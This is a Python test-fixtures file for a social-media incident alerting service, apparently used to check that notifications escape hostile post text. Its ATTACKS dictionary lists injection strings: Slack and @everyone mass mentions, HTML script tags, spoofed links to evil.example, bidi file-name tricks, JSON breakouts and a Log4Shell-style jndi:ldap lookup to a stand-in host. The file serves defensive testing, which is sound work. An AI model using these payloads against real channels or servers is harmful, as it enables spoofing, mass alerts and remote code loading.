"""Messages and notifications made by hand, and texts of posts that try to break out of a channel's markup."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from processing.alerts.notification import Fact, Link, Message, Notification, Quote, Step
from processing.contract import Incident, IncidentState, Severity
from processing.troubles import Trouble, TroubleName, TroubleSeverity

AT = datetime(2026, 7, 10, 12, 0, tzinfo=UTC)
PAGE = "https://banwatch.example/?incident=ban-20260710T1200Z"
ACKNOWLEDGE = "https://banwatch.example/answer/signed"
POST = "https://bsky.app/profile/coral.example/post/3k"
LINKS = {PAGE, ACKNOWLEDGE, POST}
INCIDENT_ID = "ban-20260710T1200Z"
KEY = f"{INCIDENT_ID}:desk:1"
PNG = b"\x89PNG\r\n\x1a\n and so on"

ATTACKS = {
    "slack's channel": "<!channel> come",
    "slack's user": "<@U1> and <#C1|x>",
    "slack's link": "<https://evil.example|click here>",
    "everyone": "@everyone @here @room @all",
    "an account": "@durov, @coral:here.example, me@evil.example",
    "html": "<a href='https://evil.example'>x</a><script>alert(1)</script>",
    "html's end": "</blockquote></code></pre><h1>big</h1>",
    "an entity": "&lt;a&gt; &amp;amp; &#60;b&#62;",
    "markdown": "[x](https://evil.example) **bold** _it_ ~~no~~ ||spoiler||",
    "an address": "https://evil.example/x?y=z evil.example www.evil.example tg://resolve?domain=x",
    "a wide stop": "evil。example evil．example",
    "backticks": "```\n@everyone\n``` `x`",
    "newlines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix",
    "control": "bell\x07 escape\x1b[31m null\x00 back\x08",
    "bidi": "abc\u202egnp.exe\u202c \u2066open \u200e\u200f\u061c",
    "zero width": "hid\u200bden\ufeff \u2060@\u2060all \u00ad",
    "tags": "flag\U000e0041\U000e0042",
    "a command": "/start@bot #hashtag $CASH",
    "half a character": "\ud83d half",
    "json": '"},"blocks":[{"type":"x"}]',
    "template": "{{ .Labels }} ${jndi:ldap://evil.example}",
    "arabic": "حظر تيك توك @الكل",
    "emoji": "👩\u200d👩\u200d👧 🏳️\u200d🌈",
    "long": "<!channel>@everyone " * 5000,
}


def a_message(text: str = "TikTok ban: 5 times the normal", *, language: str = "en", **fields: object) -> Message:
    """A message in which `text` stands wherever a text of the network can stand."""
    message = Message(
        language=language,
        title=text,
        verdict=text,
        facts=(Fact("Posts", "230, expected 41.2"), Fact("Terms", text)),
        sparkline="▁▁▂▇█",
        quotes=(Quote("First post", text, text, POST, AT),),
        notes=(text,),
        page=Link("Open the incident", PAGE),
        acknowledge=Link("Acknowledge", ACKNOWLEDGE),
        sql="SELECT count()\nFROM posts",
    )
    return replace(message, **fields)  # type: ignore[arg-type]


def an_incident(**fields: object) -> Incident:
    incident = Incident(
        id=INCIDENT_ID,
        topic="ban",
        state=IncidentState.OPEN,
        start=AT,
        detected_at=AT,
        peak=AT,
        end=None,
        observed=230,
        expected=41.2,
        ratio=5.5,
        score=9.1,
        severity=Severity.MAJOR,
        languages=("en", "ar"),
        subtopics=(),
        pulses=(),
        synthetic=False,
        lead_start=AT,
    )
    return incident if not fields else _replaced(incident, fields)


def _replaced(incident: Incident, fields: dict[str, object]) -> Incident:
    known = {name: getattr(incident, name) for name in incident.__struct_fields__}
    return Incident(**(known | fields))


def a_notification(step: Step = Step.OPENED, **fields: object) -> Notification:
    notification = Notification(
        key=KEY,
        conversation=INCIDENT_ID,
        channel="desk",
        step=step,
        at=AT,
        message=a_message(),
        incident=an_incident(),
    )
    return replace(notification, **fields)  # type: ignore[arg-type]


def a_trouble(step: Step = Step.OPENED, **fields: object) -> Notification:
    """A notification about a disk that is nearly full, with whatever the test needs different in the trouble."""
    given: dict[str, object] = {
        "name": TroubleName.DISK,
        "severity": TroubleSeverity.WARNING,
        "since": AT,
        "subject": "default",
        "value": 0.05,
        "threshold": 0.1,
    }
    trouble = Trouble(**(given | fields))  # type: ignore[arg-type]
    key = f"{trouble.about}/desk/1"
    return a_notification(step, incident=None, trouble=trouble, conversation=trouble.about, key=key)
